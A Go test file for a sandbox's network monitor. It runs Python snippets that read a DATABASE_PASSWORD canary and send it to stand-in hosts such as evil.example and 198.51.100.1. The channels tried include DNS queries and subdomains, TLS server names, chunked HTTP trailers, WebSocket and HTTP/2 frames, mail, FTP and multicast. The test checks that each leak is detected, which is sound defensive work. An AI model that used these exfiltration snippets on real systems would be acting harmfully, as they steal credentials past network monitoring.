package sandbox

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// Whatever protocol carries it, what leaves is an event, and a canary in it is found; what stays inside is none.
func TestEverythingThatLeavesIsSeen(t *testing.T) {
	const head = `
import os, socket, struct, ssl, zlib
K = os.environ["DATABASE_PASSWORD"].encode()
def tcp(host, port, *parts, fam=socket.AF_INET, proto=0):
    s = socket.socket(fam, socket.SOCK_STREAM, proto); s.settimeout(60); s.connect((host, port))
    for p in parts: s.sendall(p)
    s.shutdown(socket.SHUT_WR); s.settimeout(5)
    try:
        while s.recv(999): pass
    except OSError: pass
    s.close()
def udp(host, port, data, fam=socket.AF_INET, proto=0, options=()):
    s = socket.socket(fam, socket.SOCK_DGRAM, proto)
    for o in options: s.setsockopt(*o)
    s.sendto(data, (host, port))
def query(name, more=b"", n=0): return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, n) + b"".join(bytes([len(l)]) + l for l in name.split(b".")) + b"\0\0\1\0\1" + more
def post(body, *headers): return b"POST / HTTP/1.1\r\nHost: a.example\r\n" + b"".join(h + b"\r\n" for h in headers) + b"\r\n" + body
def tls(*parts, name="a.example"):
    c = ssl._create_unverified_context()
    with c.wrap_socket(socket.create_connection(("198.51.100.1", 443), 5), server_hostname=name) as s:
        for p in parts: s.sendall(p)
        try: s.unwrap()
        except ssl.SSLError: pass
def h2(s, head):
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0" + struct.pack(">I", len(head))[1:] + b"\x01\x05\0\0\0\x01" + head)
    said = b""
    while b"{}" not in said: said += s.recv(999) or exit(1)
`
	for name, tt := range map[string]struct {
		script string
		kind   EventKind // of the event that has to be there
		canary bool
	}{
		"bytes to the port of names":      {`tcp("198.51.100.1", 53, b"\xff\xff" + K)`, Data, true},
		"bytes behind a query":            {`q = query(b"www.example.com"); tcp("198.51.100.1", 53, struct.pack(">H", len(q)) + q + K)`, Data, true},
		"a datagram to the port of names": {`udp("198.51.100.1", 53, b"\0" + K)`, Data, true},
		"an option of a query":            {`udp("198.51.100.1", 53, query(b"www.example.com", b"\0\0\x29\x10\0\0\0\0\0" + struct.pack(">HHH", 4 + len(K), 65001, len(K)) + K, 1))`, Data, true},
		"bytes behind a question":         {`udp("198.51.100.1", 53, query(b"www.example.com", K))`, Data, true},
		"a query over IPv6":               {`udp("2001:db8::1", 53, query(K + b".evil.example"), socket.AF_INET6)`, Lookup, true},
		"UDP over IPv6":                   {`udp("2001:db8::1", 4000, K, socket.AF_INET6)`, Data, true},
		"UDP over IPv6, in parts":         {`udp("2001:db8::1", 4000, b"x" * 1220 + K + b"x" * 3000, socket.AF_INET6, 0, [(socket.IPPROTO_IPV6, 24, 1280)])`, Data, true},
		"a large datagram":                {`udp("198.51.100.1", 4000, b"x" * 60000 + K)`, Data, true},
		"UDP-Lite":                        {`udp("198.51.100.1", 4001, K, socket.AF_INET, 136)`, Data, true},
		"multicast":                       {`udp("239.1.2.3", 4006, K)`, Data, true},
		"a group that is joined":          {`s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(0, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("239.7.7.7") + socket.inet_aton("0.0.0.0")); import time; time.sleep(2)`, Data, false},
		"broadcast":                       {`udp("255.255.255.255", 4005, K, socket.AF_INET, 0, [(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)])`, Data, true},
		"fast open":                       {`socket.socket().sendto(K, 0x20000000, ("198.51.100.1", 9000))`, Data, true},
		"TCP over IPv6":                   {`tcp("2001:db8::2", 9000, K, fam=socket.AF_INET6)`, Data, true},
		"multipath TCP":                   {`tcp("198.51.100.1", 9000, K, proto=262)`, Data, true},
		"a port that clients wait at":     {`tcp("198.51.100.1", 25, K)`, Data, true},
		"reset at once": {`
for n in range(30):
    s = socket.create_connection(("198.51.100.1", 9000))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
    s.send(K); s.close()`, Data, true},
		"behind 64 KiB":                     {`tcp("198.51.100.1", 9000, b"\1" * 65536 + K)`, Data, true},
		"compressed":                        {`tcp("198.51.100.1", 9000, zlib.compress(b"x" * 100 + K))`, Data, true},
		"small letters":                     {`tcp("198.51.100.1", 9000, b"get /" + K + b" http\r\n\r\n")`, Data, true},
		"a request that is malformed":       {`tcp("198.51.100.1", 80, post(K, b"Content-Length: zz"))`, Data, true},
		"a header that is too long":         {`tcp("198.51.100.1", 80, post(b"", b"X: " + b"a" * 90000, b"Y: " + K))`, Data, true},
		"a trailer":                         {`tcp("198.51.100.1", 80, post(b"1\r\na\r\n0\r\nX-K: " + K + b"\r\n\r\n", b"Transfer-Encoding: chunked", b"Trailer: X-K"))`, Request, true},
		"a chunk's extension":               {`tcp("198.51.100.1", 80, post(b"1;k=" + K + b"\r\na\r\n0\r\n\r\n", b"Transfer-Encoding: chunked"))`, Data, true},
		"a body cut into chunks":            {`tcp("198.51.100.1", 80, post(b"".join(b"1\r\n%c\r\n" % c for c in K) + b"0\r\n\r\n", b"Transfer-Encoding: chunked"))`, Request, true},
		"behind a megabyte":                 {`tcp("198.51.100.1", 80, post(b"a" * (1 << 20) + K, b"Content-Length: %d" % ((1 << 20) + len(K))))`, Request, true},
		"a body without a compressed head":  {`c = zlib.compressobj(wbits=-15); b = c.compress(b"x" * 99 + K) + c.flush(); tcp("198.51.100.1", 80, post(b, b"Content-Encoding: deflate", b"Content-Length: %d" % len(b)))`, Request, true},
		"compressed without a head":         {`c = zlib.compressobj(wbits=-15); tcp("198.51.100.1", 9000, c.compress(b"x" * 99 + K) + c.flush())`, Data, true},
		"a WebSocket's compressed frame":    {`c = zlib.compressobj(wbits=-15); b = (c.compress(b"k=" + K) + c.flush(zlib.Z_SYNC_FLUSH))[:-4]; tcp("198.51.100.1", 80, b"GET / HTTP/1.1\r\nHost: a.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: eA==\r\n\r\n", bytes([0xc2, 0x80 | len(b)]) + b"abcd" + bytes(c ^ b"abcd"[i % 4] for i, c in enumerate(b)))`, Data, true},
		"HTTP/2":                            {`h2(socket.create_connection(("198.51.100.1", 80), 5), b"\x82\x86\x84\x41\x09a.example\0\x01k" + bytes([len(K)]) + K)`, Request, true},
		"HTTP/2 inside TLS":                 {`c = ssl._create_unverified_context(); c.set_alpn_protocols(["h2"]); h2(c.wrap_socket(socket.create_connection(("198.51.100.1", 443), 5), server_hostname="a.example"), b"\x82\x87\x84\x41\x09a.example\0\x01k" + bytes([len(K)]) + K)`, Request, true},
		"behind a request":                  {`tcp("198.51.100.1", 80, post(b"", b"Content-Length: 0") + b"\0" + K)`, Data, true},
		"through a proxy":                   {`tcp("198.51.100.1", 8080, b"CONNECT b.example:443 HTTP/1.1\r\nHost: b.example\r\n\r\n", b"\0" + K)`, Data, true},
		"behind an upgrade":                 {`tcp("198.51.100.1", 80, b"GET / HTTP/1.1\r\nHost: a.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n\x81\x20" + K)`, Data, true},
		"the name asked for in TLS":         {`tls(b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n", name=K.decode() + ".evil.example")`, Data, true},
		"inside TLS, of no known protocol":  {`tls(b"\1\2" + K)`, Data, true},
		"a WebSocket's masked frame":        {`tcp("198.51.100.1", 80, b"GET / HTTP/1.1\r\nHost: a.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: eA==\r\n\r\n", b"\x82" + bytes([0x80 | len(K)]) + b"abcd" + bytes(c ^ b"abcd"[i % 4] for i, c in enumerate(K)))`, Data, true},
		"mail inside TLS":                   {`import smtplib; m = smtplib.SMTP_SSL("198.51.100.1", 465, timeout=9, context=ssl._create_unverified_context()); m.sendmail("a@a.example", ["b@a.example"], K)`, Mail, true},
		"mail, with TLS begun later":        {`import smtplib; m = smtplib.SMTP("198.51.100.1", 587, timeout=9); m.starttls(context=ssl._create_unverified_context()); m.sendmail("a@a.example", ["b@a.example"], K)`, Mail, true},
		"a client that waits for a word":    {`import ftplib; ftplib.FTP("198.51.100.1", K.decode(), "x", timeout=9)`, Mail, true},
		"a request":                         {`tcp("198.51.100.1", 80, post(b"hello", b"Content-Length: 5"))`, Request, false},
		"a query":                           {`udp("198.51.100.1", 53, query(b"www.example.com"))`, Lookup, false},
		"bytes of no known protocol":        {`tcp("198.51.100.1", 9000, b"\0\1\2 hello")`, Data, false},
		"what is said to oneself":           {`udp("10.0.2.15", 4007, K); udp("127.0.0.1", 4007, K); udp("::1", 4007, K, socket.AF_INET6)`, "", false},
		"nothing but the start of the card": {`pass`, "", false},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s, out := python(t, Config{}, head+tt.script)
			events := s.eventsOf(Lookup, Connection, Request, Data, Mail)
			if tt.kind == "" && len(events) > 0 || tt.kind != "" && !slices.ContainsFunc(events, func(e Event) bool { return e.Kind == tt.kind }) {
				t.Errorf("want an event %q, got %s\n%s", tt.kind, told(events), out)
			}
			if got := slices.ContainsFunc(events, func(e Event) bool { return slices.Contains(e.Canaries, "env_database_password") }); got != tt.canary {
				t.Errorf("the canary was found: %t, in %s\n%s", got, told(events), out)
			}
			if understood := tt.kind == Request || tt.kind == Lookup; understood && slices.ContainsFunc(events, func(e Event) bool { return e.Kind == Data }) {
				t.Errorf("what was understood is an event twice: %s", told(events))
			}
		})
	}
}

func told(events []Event) string {
	var b strings.Builder
	for _, e := range events {
		fmt.Fprintf(&b, "\n%s %s %s %s %.60q %s", e.Kind, e.Network, e.Host, e.Addr, e.Text, e.Canaries)
	}
	return b.String()
}
